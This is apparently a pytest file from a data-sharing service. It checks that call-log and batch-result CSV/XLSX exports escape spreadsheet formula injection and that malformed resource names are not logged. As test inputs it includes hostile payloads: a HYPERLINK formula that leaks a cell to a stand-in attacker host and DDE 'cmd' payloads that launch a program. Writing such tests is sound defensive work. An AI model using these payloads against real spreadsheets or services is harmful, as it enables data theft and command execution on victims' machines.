"""Formula injection (OWASP CSV injection): a value a consumer or an importer controls never becomes a formula
in an export, CSV or XLSX, and unknown resource names never reach the call log."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from renshe.core import tabular
from renshe.sharing import service
from renshe.sharing.models import CallLogEntry
from tests import factories
from tests.sharing.test_gateway import _consumer, _token

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
             "\tleading tab", "\rleading cr"]


@given(st.text(max_size=20))
def test_csv_text_never_leaves_a_formula_start(text: str) -> None:
    safe = tabular.csv_text(text)
    assert isinstance(safe, str)
    if safe.startswith(tabular.FORMULA_STARTS):
        assert safe.lstrip("+-").replace(".", "", 1).isdigit()  # only a plain signed number stays as it is
    assert safe in (text, "'" + text)


def test_plain_numbers_and_other_values_are_kept() -> None:
    assert tabular.csv_text("-12.50") == "-12.50"
    assert tabular.csv_text(-3) == -3
    assert tabular.csv_text("王秀英") == "王秀英"


@pytest.fixture
def logged(session: Session) -> str:
    now = datetime.now(UTC)
    for value in DANGEROUS:
        service.log_call(session, consumer="c-formula", resource=value, purpose=value, subject=None,
                         result="renshe:sharing/no-grant", status=403, requested_at=now, request_bytes=1,
                         response_bytes=0)
    session.commit()
    return "c-formula"


def test_call_log_csv_export_neutralises_formulas(client: TestClient, session: Session, logged: str) -> None:
    admin = factories.bearer(factories.staff_user(session, username="fx-admin", roles=("admin",), division="110000"))
    session.commit()
    response = client.get("/api/v1/sharing/calls/export", headers=admin, params={"consumer": logged, "format": "csv"})
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    resources = [row[4] for row in rows[1:]]
    assert sorted(resources) == sorted("'" + value for value in DANGEROUS)
    for row in rows[1:]:
        assert not any(cell.startswith(tabular.FORMULA_STARTS) for cell in row), row


def test_call_log_xlsx_export_writes_text_not_formulas(client: TestClient, session: Session, logged: str) -> None:
    admin = factories.bearer(factories.staff_user(session, username="fx-admin2", roles=("admin",),
                                                  division="110000"))
    session.commit()
    response = client.get("/api/v1/sharing/calls/export", headers=admin,
                          params={"consumer": logged, "format": "xlsx"})
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(v.replace("\r", "\n") for v in DANGEROUS)  # XML keeps no CR
    assert {c.data_type for c in cells} == {"s"}  # never "f"


def test_unknown_resource_names_never_reach_the_call_log(client: TestClient, session: Session) -> None:
    client_id, secret = _consumer(session, "identity-verification")
    headers = _token(client, client_id, secret)
    response = client.post("/share/v1/query/=cmd|' -C calc'!A0", headers=headers, json={"id_number": "1"})
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    logged = session.scalar(select(func.count()).select_from(CallLogEntry).where(CallLogEntry.consumer == client_id))
    assert logged == 0


def test_batch_result_neutralises_names_given_as_formulas(client: TestClient, session: Session) -> None:
    from renshe import demo
    from renshe.core import db
    from renshe.sharing import jobs
    from tests.sharing.test_batch import _file, _headers

    headers = _headers(client, session)
    number = demo.resident_id("110108", date(1990, 2, 2), 7)
    rows = [('=HYPERLINK("http://evil.example","x")', number), ("@SUM(1+1)", number), ("王五", number)]
    created = client.post("/share/v1/batch/identity", headers=headers,
                          files={"file": ("rows.csv", _file(rows), "text/csv")})
    assert created.status_code == 202, created.text
    while jobs.work_once(db.sessions.factory):
        pass
    done = client.get(f"/share/v1/batch/{created.json()['job_id']}", headers=headers).json()
    result = client.get(done["result_url"], headers=headers)
    lines = list(csv.reader(io.StringIO(result.content.decode("utf-8-sig"))))
    assert [line[0] for line in lines[1:]] == ["'" + rows[0][0], "'" + rows[1][0], "王五"]
